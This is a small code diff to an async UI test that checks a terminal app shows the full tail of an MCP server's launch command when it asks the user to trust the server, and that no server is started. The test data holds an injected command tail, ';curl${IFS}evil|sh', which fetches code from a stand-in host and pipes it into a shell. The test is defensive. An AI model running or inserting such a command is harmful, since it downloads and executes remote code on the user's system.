@@ -106,9 +106,9 @@ async def test_the_mcp_trust_question_shows_the_tail_of_a_servers_command(env: A
     with FakeProvider(PROTOCOL, api_key=KEY) as server:
         async with running(server, env) as (app, pilot):
             await wait_for(pilot, lambda: "MCP server" in screen_text(app), "the question")
-            await pilot.pause(0.3)
+            tail = ";curl${IFS}evil|sh"
+            await wait_for(pilot, lambda: tail in screen_text(app), "the command's tail")
             _assert_drawn_as_laid_out(app)
-            assert ";curl${IFS}evil|sh" in screen_text(app), screen_text(app)
             assert app.host is not None and app.host.mcp is None  # nothing started
 
 
